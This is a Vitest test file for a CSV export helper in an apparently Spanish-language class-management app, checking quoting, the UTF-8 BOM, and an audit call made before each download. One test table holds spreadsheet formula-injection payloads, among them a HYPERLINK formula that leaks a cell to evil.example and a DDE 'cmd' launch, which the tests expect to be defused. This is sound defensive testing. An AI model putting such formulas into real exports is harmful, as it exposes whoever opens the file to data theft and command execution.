import { afterEach, describe, expect, it, vi } from "vitest";
import { sentRequest, stubApi } from "@/test/stub-api";
import { downloadCsv, toCsv } from "./csv";

describe("toCsv", () => {
  it("starts with the UTF-8 BOM, separates cells with ';' and ends lines with CRLF", () => {
    const text = toCsv([
      ["Alumna", "Monto"],
      ["Ñuñoa Pérez", 45000],
    ]);
    expect(text).toBe("\uFEFFAlumna;Monto\r\nÑuñoa Pérez;45000\r\n");
  });

  it("quotes cells holding ';', quotes or line breaks, doubling the quotes", () => {
    const text = toCsv([["Ballet; nivel 1", 'La "profe"', "dos\nlíneas", "simple"]]);
    expect(text).toBe('\uFEFF"Ballet; nivel 1";"La ""profe""";"dos\nlíneas";simple\r\n');
  });

  it("writes numbers as plain digits and null as an empty cell", () => {
    expect(toCsv([[1234567, null, 0]])).toBe("\uFEFF1234567;;0\r\n");
  });

  // Issue 23, 7: quoting does not stop a spreadsheet from evaluating a cell.
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"',
    ],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["@SUM(1+1)", `"'@SUM(1+1)"`],
    ["=1+1", `"'=1+1"`],
    ["-2+3", `"'-2+3"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["=1+1\nsegunda línea", `"'=1+1\nsegunda línea"`],
  ])("writes %j as text a spreadsheet will not run", (cell, written) => {
    expect(toCsv([["Nombre", cell]])).toBe(`\uFEFFNombre;${written}\r\n`);
  });

  it("keeps a phone readable: the leading '+' behind a single quote", () => {
    expect(toCsv([["+56 9 1234 5678"]])).toBe(`\uFEFF"'+56 9 1234 5678"\r\n`);
  });

  it("leaves numbers and ordinary text alone, negative amounts included", () => {
    expect(toCsv([[-45000, "Ana = Pérez", "a-b", "ana@nova.cl"]])).toBe(
      "\uFEFF-45000;Ana = Pérez;a-b;ana@nova.cl\r\n",
    );
  });
});

/** A blob's bytes (jsdom's Blob has no arrayBuffer(); its FileReader does the job). */
function bytesOf(blob: Blob): Promise<Uint8Array> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new Uint8Array(reader.result as ArrayBuffer));
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });
}

describe("downloadCsv", () => {
  // jsdom has no object URLs: each test puts stand-ins in and these put the originals back.
  const { createObjectURL, revokeObjectURL } = URL;
  afterEach(() => {
    URL.createObjectURL = createObjectURL;
    URL.revokeObjectURL = revokeObjectURL;
    vi.restoreAllMocks();
  });

  it("downloads the CSV text under the given file name", async () => {
    let blob: Blob | undefined;
    URL.createObjectURL = vi.fn((object: Blob | MediaSource) => {
      if (object instanceof Blob) blob = object;
      return "blob:csv";
    });
    URL.revokeObjectURL = vi.fn();
    const click = vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      expect(this.download).toBe("alumnas-2026-03.csv");
      expect(this.href).toBe("blob:csv");
    });

    const fetchMock = stubApi(() => new Response(null, { status: 204 }));

    const downloaded = await downloadCsv("alumnas-2026-03.csv", [["Nombre"], ["José"]], {
      list: "class-students",
      filters: { classId: 3, month: "2026-03" },
    });

    expect(downloaded).toBe(true);
    // The audit row first: who, which list, how many rows (header left out), the filters.
    expect(fetchMock).toHaveBeenCalledOnce();
    const sent = sentRequest(fetchMock);
    expect(sent.url).toBe("/api/audit/list-exports");
    expect(sent.body).toEqual({
      list: "class-students",
      filters: { classId: 3, month: "2026-03" },
      format: "csv",
      rows: 1,
    });
    expect(click).toHaveBeenCalledOnce();
    expect(blob?.type).toBe("text/csv;charset=utf-8");
    if (!blob) throw new Error("no blob was made");
    const bytes = await bytesOf(blob);
    // The BOM as bytes (EF BB BF): what makes Excel read the file as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toBe("Nombre\r\nJosé\r\n");
    expect(document.querySelector("a[download]")).toBeNull();
  });

  it("downloads nothing when the export cannot be audited", async () => {
    vi.stubGlobal(
      "fetch",
      vi.fn(async () => new Response(JSON.stringify({ message: "x" }), { status: 500 })),
    );
    const click = vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(() => {});
    const downloaded = await downloadCsv("pagos.csv", [["Nombre"]], {
      list: "outstanding-payments",
      filters: {},
    });
    expect(downloaded).toBe(false);
    expect(click).not.toHaveBeenCalled();
  });
});
